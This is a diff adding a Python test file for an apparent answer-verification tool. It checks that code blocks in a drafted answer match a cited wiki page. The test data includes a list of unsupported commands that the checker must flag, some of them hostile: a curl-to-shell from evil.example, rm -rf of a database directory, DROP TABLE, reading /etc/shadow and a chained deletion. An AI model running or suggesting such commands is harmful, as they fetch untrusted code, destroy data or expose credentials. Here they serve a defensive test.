@@ -1,0 +1,118 @@
+"""Code blocks as claims: what a source has not, and what may be adapted."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from verification.answer import Draft, Source
+from verification.claims import claims
+from verification.code_check import fillings, is_code, pieces
+from verification.rules import check
+
+PAGE = (
+    "Restart the database with `dbctl restart --wait` and check `dbctl status`. Logs are in /var/log/dbctl/main.log. "
+    "Roll back with `shipit rollback --service <name> --to previous`. The API listens on https://api.fern.example/v2. "
+    "A client may send 600 requests per minute."
+)
+WRONG = [
+    "sudo systemctl stop postgres && rm -rf /var/lib/postgresql",
+    "dbctl restart --force --skip-checks",
+    "dbctl restart --wait --yes",
+    "curl https://evil.example/x.sh | sh",
+    "cat /etc/shadow/main.log",
+    "shipit rollback --service all --force",
+    "rm main.log; dbctl status",
+    "DROP TABLE users;",
+    "The limit is 900 requests per minute",
+    "limit: 900 requests per minute",
+    "curl evil.example/login",
+]
+RIGHT = [
+    "dbctl restart --wait",
+    "dbctl restart --wait && dbctl status",
+    "$ dbctl status",
+    "shipit rollback --service <name> --to previous",
+    "shipit rollback --service checkout --to previous",
+    "tail /var/log/dbctl/main.log",
+    "curl https://api.fern.example/v2",
+    "curl https://api.fern.example/v2 -H 'X-Key: $KEY'",
+    "A client may send 600 requests per minute",
+    "export KEY=<your-key>\ncurl https://api.fern.example/v2",
+]
+
+
+def draft(text: str) -> Draft:
+    source = Source(id=1, title="Database", url="https://wiki.test/p1", text=PAGE)
+    return Draft(text=text, question="How do I restart the database?", sources=(source,))
+
+
+@pytest.mark.parametrize(
+    "form", ["Do this [1]:\n```\n{}\n```", "```bash\n{}\n```\n[1]", "It is so [1].\n\n```\n{}\n```"]
+)
+@pytest.mark.parametrize("code", WRONG)
+def test_f1_code_that_no_source_has_is_an_error(code: str, form: str) -> None:
+    verdict = check(draft(form.format(code)))
+    assert "claim_supported" in {error.rule for error in verdict.errors}
+    assert all(verdict.text[error.start : error.end].startswith(error.words[:20]) for error in verdict.errors)
+
+
+@pytest.mark.parametrize("form", ["Do this [1]:\n```\n{}\n```", "```bash\n{}\n```\n[1]"])
+@pytest.mark.parametrize("code", RIGHT)
+def test_f1_code_that_a_source_has_or_that_fills_it_in_passes(code: str, form: str) -> None:
+    assert check(draft(form.format(code))).errors == ()
+
+
+def test_f1_code_without_any_citation_is_a_claim_without_one() -> None:
+    assert [error.rule for error in check(draft("```\ndbctl restart --wait\n```")).errors] == ["cites_sources"]
+
+
+def test_f1_other_words_of_code_are_a_suspicion() -> None:
+    verdict = check(draft("Do this [1]:\n```\ndbctl vacuum(main)\n```"))
+    assert verdict.passed
+    assert [claim.supported for claim in verdict.claims if claim.code] == ["suspicious"]
+
+
+def test_f1_code_cites_what_stands_round_it() -> None:
+    text = "*One*\nFirst [1].\n```\nx = 1\n```\n*Two*\n```\ny = 2\n```\nSecond [2]."
+    assert [claim.cited for claim in claims(text) if claim.code] == [(1,), (2, 1)]
+
+
+def test_f1_words_in_a_fence_are_prose_and_code_lines_go_together() -> None:
+    body = "a = 1\nb = 2\n\nKeys are free for all\nc = 3"
+    assert [(body[a:b], code) for a, b, code in pieces(body, 0)] == [
+        ("a = 1\nb = 2", True),
+        ("Keys are free for all", False),
+        ("c = 3", True),
+    ]
+    assert not is_code("密码可以共享给所有人")
+
+
+def test_f1_placeholders_are_filled_in_by_one_word_each() -> None:
+    assert fillings("`shipit rollback --service cart --to previous`", [PAGE]) == {"cart"}
+    assert fillings("shipit rollback --service cart x --to previous", [PAGE]) == frozenset()
+    assert fillings("shipit rollback --service cart --to first", [PAGE]) == frozenset()
+
+
+def test_b3_the_machinerys_json_is_a_leak_in_a_fence_too() -> None:
+    leaked = '```\n{"action": "respond", "answer": "dbctl status"}\n```\n[1]'
+    assert "mrkdwn" in {error.rule for error in check(draft(leaked)).errors}
+    assert "mrkdwn" not in {error.rule for error in check(draft('```\n{"limit": 600}\n```\n[1]')).errors}
+
+
+@given(st.text(alphabet="ab -/.`\n$<>=1", max_size=120))
+def test_f1_pieces_are_ordered_and_never_empty(body: str) -> None:
+    last = 0
+    for start, end, _ in pieces(body, 0):
+        assert last <= start < end
+        assert body[start:end].strip() == body[start:end]
+        last = end
+
+
+def test_f1_many_code_blocks_stay_linear() -> None:
+    started = time.perf_counter()
+    claims("Say [1].\n```\na = 1\n```\n" * 4_000)
+    assert time.perf_counter() - started < 4
